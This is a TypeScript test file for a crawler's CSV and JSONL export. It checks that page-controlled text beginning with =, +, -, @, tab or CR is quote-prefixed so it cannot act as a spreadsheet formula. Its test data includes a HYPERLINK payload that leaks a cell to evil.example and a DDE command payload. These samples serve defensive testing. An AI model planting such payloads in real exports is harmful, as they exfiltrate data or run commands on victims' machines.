/**
 * CSV export and formula injection: text a page controls never reaches a spreadsheet as a
 * formula (OWASP "CSV Injection"), numbers stay numbers, and JSON lines stay exact.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import Database from "better-sqlite3";
import { csvField, EXPORT_COLUMNS, formatPage } from "../src/export.js";
import type { PageRecord } from "../src/store.js";
import { CrawlStore } from "../src/store.js";
import { runAio, tempDir } from "./helpers.js";

const tmp = tempDir();
after(tmp.cleanup);

/** Splits one CSV record (RFC 4180, as written by the export) into its fields. */
function parseCsvLine(line: string): string[] {
  const fields: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/gy;
  for (;;) {
    const m = re.exec(line)!;
    const raw = m[1]!;
    fields.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (m[2] === "") return fields;
  }
}

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+2",
  "-2+3",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
];

function record(overrides: Partial<PageRecord>): PageRecord {
  return {
    url: "http://h.test/a",
    status: 200,
    title: "A title",
    depth: 1,
    error: null,
    fetched_at: "2026-01-01T00:00:00.000Z",
    outcome: "ok",
    content_type: "text/html",
    bytes: 10,
    elapsed: 0.5,
    redirect_to: null,
    canonical: null,
    noindex: 0,
    attempts: 1,
    ...overrides,
  };
}

describe("CSV export neutralises formulas", () => {
  it("csvField prefixes a quote to text starting with = + - @ tab or CR, then quotes as usual", () => {
    assert.equal(csvField("=1+2"), "'=1+2");
    assert.equal(csvField("+1"), "'+1");
    assert.equal(csvField("-1"), "'-1");
    assert.equal(csvField("@x"), "'@x");
    assert.equal(csvField("\tx"), "'\tx");
    assert.equal(csvField("\rx"), `"'\rx"`);
    assert.equal(csvField('=A1,"b"'), `"'=A1,""b"""`);
    // Only the first character matters; ordinary text is untouched.
    assert.equal(csvField("a=1"), "a=1");
    assert.equal(csvField("'=1"), "'=1");
    assert.equal(csvField(""), "");
    assert.equal(csvField(null), "");
  });

  it("numbers are never prefixed, negative ones included", () => {
    assert.equal(csvField(-1), "-1");
    assert.equal(csvField(-0.25), "-0.25");
    const line = formatPage(record({ status: -1, depth: 0, bytes: -5, elapsed: -0.5 }), "csv");
    const fields = parseCsvLine(line.replace(/\r\n$/, ""));
    const at = (c: (typeof EXPORT_COLUMNS)[number]) => fields[EXPORT_COLUMNS.indexOf(c)];
    assert.deepEqual(
      [at("status"), at("depth"), at("bytes"), at("elapsed"), at("noindex"), at("attempts")],
      ["-1", "0", "-5", "-0.5", "0", "1"],
    );
  });

  it("every text column a page controls is neutralised in one row", () => {
    const evil = "=cmd|' /C calc'!A0";
    const page = record({
      title: evil,
      error: `-${evil}`,
      content_type: `@${evil}`,
      redirect_to: `+${evil}`,
      canonical: `\t${evil}`,
      url: `=${evil}`,
    });
    const fields = parseCsvLine(formatPage(page, "csv").replace(/\r\n$/, ""));
    for (const c of ["url", "title", "error", "content_type", "redirect_to", "canonical"]) {
      const value = fields[EXPORT_COLUMNS.indexOf(c as (typeof EXPORT_COLUMNS)[number])]!;
      assert.equal(value, `'${page[c as keyof PageRecord]}`, c);
    }
    // JSON lines keep the exact text.
    const json = JSON.parse(formatPage(page, "jsonl")) as PageRecord;
    assert.equal(json.title, evil);
    assert.equal(json.content_type, `@${evil}`);
  });
});

describe("aio export of a store holding formula-like text", () => {
  const db = join(tmp.dir, "formulas.db");

  before(() => {
    CrawlStore.open(db).close();
    const d = new Database(db);
    const insert = d.prepare(
      `INSERT INTO pages (url, status, title, depth, error, fetched_at, outcome, content_type, bytes)
       VALUES (?, ?, ?, 2, ?, '2026-01-01T00:00:00.000Z', ?, ?, 1234)`,
    );
    PAYLOADS.forEach((p, i) => {
      insert.run(`http://h.test/${i}`, 200, p, null, "ok", p);
    });
    insert.run("http://h.test/failed", null, null, "-1 is not a status", "failed", null);
    d.close();
  });

  it("--format csv: page text starts with a quote, numbers stay plain", async () => {
    const r = await runAio(["export", "--db", db, "--format", "csv"]);
    assert.equal(r.code, 0, r.stderr);
    // Records end with CRLF; a CR inside a quoted field is not a record end.
    const records = r.stdout.split(/\r\n(?=http|$)/).filter((l) => l !== "");
    assert.equal(records[0], EXPORT_COLUMNS.join(","));
    const rows = records.slice(1).map(parseCsvLine);
    assert.equal(rows.length, PAYLOADS.length + 1);
    const col = (c: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(c);
    PAYLOADS.forEach((p, i) => {
      const row = rows.find((f) => f[col("url")] === `http://h.test/${i}`)!;
      assert.equal(row[col("title")], `'${p}`);
      assert.equal(row[col("content_type")], `'${p}`);
      assert.equal(row[col("status")], "200");
      assert.equal(row[col("depth")], "2");
      assert.equal(row[col("bytes")], "1234");
    });
    const failed = rows.find((f) => f[col("url")] === "http://h.test/failed")!;
    assert.equal(failed[col("error")], "'-1 is not a status");
    assert.equal(failed[col("status")], "");
  });

  it("--format jsonl carries the stored text unchanged", async () => {
    const r = await runAio(["export", "--db", db]);
    assert.equal(r.code, 0, r.stderr);
    const pages = r.stdout
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l) as PageRecord);
    assert.deepEqual(
      pages.filter((p) => p.url !== "http://h.test/failed").map((p) => p.title),
      PAYLOADS,
    );
    assert.equal(pages.find((p) => p.url === "http://h.test/failed")!.error, "-1 is not a status");
  });
});
